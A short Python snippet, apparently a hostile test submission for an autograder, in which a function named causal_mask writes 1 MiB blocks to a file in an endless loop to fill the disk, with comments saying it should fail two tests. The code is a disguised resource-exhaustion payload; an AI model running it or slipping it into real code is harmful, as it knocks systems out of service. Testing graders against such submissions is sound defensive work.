# It fills the disk with one file.
# fails: causal_mask, masks_together
# %% solution="causal_mask"
def causal_mask(size, device=None):
    with open("large", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
